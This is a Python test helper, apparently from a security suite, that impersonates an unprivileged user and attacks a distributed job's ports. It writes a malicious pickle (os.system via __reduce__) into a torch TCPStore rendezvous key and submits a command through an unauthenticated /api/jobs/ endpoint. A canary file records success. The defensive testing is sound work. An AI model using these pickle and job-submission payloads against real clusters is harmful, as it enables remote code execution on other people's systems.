"""A stranger: another user, who comes to the ports of a job from an address that is not loopback.

He writes as torch's stores, HTTP and no protocol at all have it. What he sends runs a command where it is
unpickled or obeyed, which leaves a file: the canary.
"""

import ipaddress
import json
import os
import pickle
import socket
import subprocess
import sys
from base64 import b64encode
from collections.abc import Iterable, Iterator
from contextlib import suppress
from pathlib import Path

import psutil
import pytest

NOBODY = 65534
LIMIT_S = 150  # for all that a stranger tries
# As another user, prints all that he tried: port, what, and how it was heeded, null if it was not.
STRANGER = """
import json
import os
import socket
import sys
import threading
from base64 import b64decode
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from datetime import timedelta
from torch.distributed import TCPStore

address, run, payload, command, nobody, *ports = sys.argv[1:]
os.setgroups([])
os.setgid(int(nobody))
os.setuid(int(nobody))


def request(method, path, body=b""):
    return f"{method} {path} HTTP/1.0\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n".encode() + body


RAW = {
    "pickle": b64decode(payload),
    "garbage": bytes(range(256)) * 16,
    "GET": request("GET", "/"),
    "job": request("POST", "/api/jobs/", json.dumps({"entrypoint": command}).encode()),
    "environments": request("POST", "/get_runtime_envs_info"),
}


def store(port):
    # A server that is silent keeps a client of torch for ever.
    heeded = []
    thread = threading.Thread(target=set_state, args=(port, heeded), daemon=True)
    thread.start()
    thread.join(5)
    return heeded or None


def set_state(port, heeded):
    # The state of a rendezvous, which torchrun unpickles.
    with suppress(Exception):
        client = TCPStore(address, port, is_master=False, timeout=timedelta(seconds=1))
        client.set(f"torch.rendezvous.{run}", payload)
        heeded.append("set")


def raw(port, sent):
    # Whether a server did as it was told, by its own words.
    with socket.create_connection((address, port), 2) as connection:
        connection.sendall(sent)
        connection.shutdown(socket.SHUT_WR)
        answer = connection.recv(4096)
    return answer[:40].decode() if answer[:5] == b"HTTP/" and answer.split()[1][:1] == b"2" else None


def attempt(how, act, port, *arguments):
    try:
        return port, how, act(port, *arguments)
    except Exception:
        return port, how, None


def visit(port):
    return [attempt("keys", store, port), *(attempt(how, raw, port, sent) for how, sent in RAW.items())]


with ThreadPoolExecutor(16) as at_once:
    tried = [each for one in at_once.map(visit, map(int, ports)) for each in one]
print(json.dumps(tried), flush=True)
os._exit(0)
"""


class Harm:
    """What a stranger writes: to unpickle it runs a command."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self):
        return os.system, (self.command,)

    @property
    def command(self) -> str:
        return f"touch {self.canary}"


def outward() -> str | None:
    """An address of this machine that is not loopback."""
    return next(_beyond_loopback(), (None, None))[1]


def network() -> str | None:
    """The interface that has it."""
    return next(_beyond_loopback(), (None, None))[0]


def _beyond_loopback() -> Iterator[tuple[str, str]]:
    for name, of in psutil.net_if_addrs().items():
        for each in of:
            if each.family == socket.AF_INET and not each.address.startswith("127."):
                yield name, each.address


needs_another_user = pytest.mark.skipif(
    os.geteuid() != 0 or outward() is None,
    reason="needs root, to become another user, and a network",
)


def listeners(processes: Iterable[psutil.Process]) -> set[tuple[str, int]]:
    """The (address, port) at which processes listen."""
    found = set()
    for process in processes:
        with suppress(psutil.NoSuchProcess):
            for connection in process.net_connections("inet"):
                if connection.status == psutil.CONN_LISTEN:
                    found.add((_plain(connection.laddr.ip), connection.laddr.port))
    return found


def _plain(address: str) -> str:
    """An address without IPv6 around it."""
    mapped = getattr(ipaddress.ip_address(address), "ipv4_mapped", None)
    return str(mapped or address)


def heeded(
    ports: Iterable[int], canary: Path, run: str = "none", address: str | None = None
) -> list[list[object]]:
    """What another user brought about at ports of a job whose agents call their meeting `run`: port, what he
    tried, and how it was heeded. He comes to an `address`, by default to one that is not loopback.
    """
    ports = sorted(set(ports))
    harm = Harm(canary)
    payload = b64encode(pickle.dumps(harm)).decode()
    own = [address or outward(), run, payload, harm.command, str(NOBODY), *map(str, ports)]
    done = subprocess.run(
        [sys.executable, "-c", STRANGER, *own], capture_output=True, text=True, timeout=LIMIT_S
    )
    assert done.returncode == 0, done.stderr
    tried = json.loads(done.stdout)
    assert {port for port, *_ in tried} == set(ports), done.stderr
    return [each for each in tried if each[-1] is not None]
